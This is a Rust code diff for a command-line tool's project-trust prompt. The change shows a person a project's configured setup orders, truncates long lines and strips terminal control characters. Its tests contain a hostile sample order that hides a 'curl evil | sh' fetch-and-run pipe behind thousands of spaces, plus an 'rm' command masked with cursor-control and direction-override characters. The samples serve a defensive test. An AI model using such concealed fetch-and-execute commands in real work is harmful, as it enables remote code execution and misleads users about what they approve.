@@ -5,14 +5,20 @@ use std::path::{Path, PathBuf};
 
 use clap::{Args, ValueHint};
 use overmind_api::{ProjectConfirm, ProjectTrust};
+use overmind_core::shell_word::shell_word;
 
 use crate::asked;
 use crate::context::Context;
 use crate::exit::{Exit, Failure, Outcome};
 use crate::output::table::Tone;
+use crate::output::when::counted;
 use crate::output::{clean, paint};
 use crate::remote::Remote;
 use crate::show::{self, cell};
+
+/// Most lines of orders that a question shows, and most characters of a line.
+const LINES: usize = 15;
+const WIDEST: usize = 400;
 
 #[derive(Clone, Debug, Args)]
 pub struct TrustArgs {
@@ -63,24 +69,23 @@ pub(crate) async fn run(cx: &Context, args: &TrustArgs) -> Outcome {
         tell(cx, &found)?;
         return Ok(if found.trusted || !args.show { Exit::Done } else { Exit::Failed });
     }
-    if !args.yes {
-        // Somebody who confirmed this content already is only asked for what is new.
-        if !asked::possible(cx) {
-            return Err(Failure::usage("there is no terminal to ask at").hint(
-                "read its commands with `overmind trust --show`, then confirm them with --yes",
-            ));
-        }
-        show_orders(cx, &found);
+    if !args.yes && !asked::possible(cx) {
+        let dir = shell_word(&found.project);
+        return Err(Failure::usage(format!(
+            "there is no terminal to ask at: read its commands with `overmind trust --show {dir}`, then \
+             type `overmind trust --yes {dir}`"
+        )));
     }
     let network = match args.yes {
         true => args.setup_network,
-        false => match ask(&found, args.setup_network).await? {
+        // Somebody who confirmed this content already is only asked for what is new.
+        false => match ask(cx, &found, args.setup_network).await? {
             Some(network) => network,
             None => return Err(Failure::failed("nothing was confirmed")),
         },
     };
     let confirmed = confirm(&remote, &found, network).await?;
-    tell(cx, &confirmed)?;
+    state(cx, &confirmed)?;
     Ok(Exit::Done)
 }
 
@@ -90,8 +95,14 @@ fn text(dir: &Path) -> Result<&str, Failure> {
 
 fn tell(cx: &Context, found: &ProjectTrust) -> Result<(), Failure> {
     if cx.out.for_people() && !found.orders.is_empty() {
-        show_orders(cx, found);
+        for line in about(cx, found, usize::MAX, None) {
+            cx.out.note(&line);
+        }
     }
+    state(cx, found)
+}
+
+fn state(cx: &Context, found: &ProjectTrust) -> Result<(), Failure> {
     show::one(&cx.out, found, &found.project, || {
         let state = match (&found.given, found.trusted) {
             (_, true) if found.orders.is_empty() => ("it orders nothing".to_owned(), Tone::Good),
@@ -106,36 +117,81 @@ fn tell(cx: &Context, found: &ProjectTrust) -> Result<(), Failure> {
     })
 }
 
-/// The exact text of each order.
-fn show_orders(cx: &Context, found: &ProjectTrust) {
-    cx.out.note(&format!("the .overmind.yml of {} orders:", clean::line(&found.project)));
-    for order in &found.orders {
-        for line in order.lines() {
-            let line = clean::line(line);
-            cx.out.note(&format!("  {}", paint(&line, Tone::Busy, cx.out.err_colour)));
-        }
+/// What a person needs to know to decide: the project, the exact text of its orders up to `most` lines,
+/// and the rights that they run with. `network`: whether setup gets this machine's network, if that is
+/// already decided.
+fn about(cx: &Context, found: &ProjectTrust, most: usize, network: Option<bool>) -> Vec<String> {
+    let mut lines = vec![
+        format!("project {}", clean::line(&found.project)),
+        "its .overmind.yml wants to run, or to be given:".to_owned(),
+    ];
+    let (first, left) = beginning(&found.orders, most);
+    let coloured = |line: &String| format!("  {}", paint(line, Tone::Busy, cx.out.err_colour));
+    lines.extend(first.iter().map(coloured));
+    if left > 0 {
+        let (more, dir) = (counted(left as u64, "more line"), shell_word(&found.project));
+        lines.push(format!("  … {more}: `overmind trust --show {}`", clean::line(&dir)));
     }
+    let setup = match network {
+        Some(true) => ", setup with the network of this machine",
+        Some(false) if installs(found) => {
+            " (answer w to also give setup the network of this machine)"
+        }
+        Some(false) | None => "",
+    };
+    lines.push(format!("with the sandbox and the network of each run{setup}"));
+    for objects in &found.borrows {
+        let objects = clean::line(objects);
+        lines.push(format!("its runs can also read the git objects in {objects}"));
+    }
+    lines
 }
 
-/// Asks the person at the terminal, who has seen the orders. `Some`: confirmed, and whether setup has
-/// the network.
-async fn ask(found: &ProjectTrust, network: bool) -> Result<Option<bool>, Failure> {
-    let installs = found.orders.iter().any(|order| order.starts_with("setup"));
-    let question = match (network, installs) {
-        (true, _) => "run this for runs of the project, setup with the network? [y]es, [n]o: ",
-        (false, true) => {
-            "run this for runs of the project? [y]es, [w]ith network for setup in sandboxes, [n]o: "
+/// The first lines of the orders, without what a terminal would obey, and how many lines are left. A
+/// line that is longer than a screen ends where the screen would, and counts as left.
+fn beginning(orders: &[String], most: usize) -> (Vec<String>, usize) {
+    let all: Vec<_> = orders.iter().flat_map(|order| order.lines()).collect();
+    // One more line than fits is shown instead of the remark about it.
+    let shown = if all.len() == most.saturating_add(1) { all.len() } else { all.len().min(most) };
+    let mut left = all.len() - shown;
+    let cut = |line: &&str| {
+        let line = clean::line(line);
+        match most < usize::MAX && line.chars().count() > WIDEST {
+            true => {
+                left += 1;
+                format!("{}…", line.chars().take(WIDEST).collect::<String>())
+            }
+            false => line.into_owned(),
         }
-        (false, false) => "run this for runs of the project? [y]es, [n]o: ",
     };
+    let first = all[..shown].iter().map(cut).collect();
+    (first, left)
+}
+
+fn installs(found: &ProjectTrust) -> bool {
+    found.orders.iter().any(|order| order.starts_with("setup"))
+}
+
+/// Shows the person at the terminal what the project wants, and asks. `Some`: confirmed, and whether
+/// setup has the network.
+async fn ask(cx: &Context, found: &ProjectTrust, network: bool) -> Result<Option<bool>, Failure> {
+    let mut most = LINES;
     loop {
-        let Some(typed) = asked::typed(question).await? else { return Ok(None) };
-        match typed.as_str() {
-            "y" | "yes" => return Ok(Some(network)),
-            "w" if installs => return Ok(Some(true)),
-            "n" | "no" => return Ok(None),
-            _ => {}
+        for line in about(cx, found, most, Some(network)) {
+            cx.out.question(&line);
         }
+        loop {
+            let question = "run this for runs of the project? [y]es, once for this content, [n]o, [s]how all: ";
+            let Some(typed) = asked::typed(question).await? else { return Ok(None) };
+            match typed.as_str() {
+                "y" | "yes" => return Ok(Some(network)),
+                "w" if installs(found) => return Ok(Some(true)),
+                "n" | "no" => return Ok(None),
+                "s" | "show" => break,
+                _ => {}
+            }
+        }
+        most = usize::MAX;
     }
 }
 
@@ -177,8 +233,7 @@ pub(crate) async fn agreed(
         confirm(remote, &found, false).await?;
         return Ok(true);
     }
-    show_orders(cx, &found);
-    match ask(&found, false).await? {
+    match ask(cx, &found, false).await? {
         Some(network) => {
             confirm(remote, &found, network).await?;
             Ok(true)
@@ -196,4 +251,33 @@ pub(crate) async fn of_init(cx: &Context, top: &Path) -> Result<bool, Failure> {
         return Ok(true);
     }
     Ok(confirm(&remote, &found, true).await.is_ok())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lines(count: usize) -> Vec<String> {
+        (0..count).map(|n| format!("setup: step {n}")).collect()
+    }
+
+    #[test]
+    fn a_question_shows_a_screen_of_orders_and_counts_the_others() {
+        assert_eq!(beginning(&lines(15), LINES), (lines(15), 0));
+        assert_eq!(beginning(&lines(16), LINES), (lines(16), 0));
+        assert_eq!(beginning(&lines(40), LINES), (lines(15), 25));
+        assert_eq!(beginning(&lines(40), usize::MAX), (lines(40), 0));
+        let one = vec![format!("setup: {}", lines(20).join("\n"))];
+        assert_eq!(beginning(&one, LINES).1, 5, "the lines of one order count each");
+    }
+
+    #[test]
+    fn no_order_hides_behind_spaces_or_moves_the_terminals_cursor() {
+        let sly = vec![format!("setup: make{}; curl evil | sh", " ".repeat(5_000))];
+        let (shown, left) = beginning(&sly, LINES);
+        assert!(left == 1 && shown[0].ends_with('…') && shown[0].chars().count() == WIDEST + 1);
+        assert_eq!(beginning(&sly, usize::MAX), (sly, 0));
+        let (shown, _) = beginning(&["setup: rm x\r\u{1b}[2Kmake \u{202e}".into()], LINES);
+        assert!(!shown[0].contains(['\r', '\u{1b}', '\u{202e}']), "{shown:?}");
+    }
 }
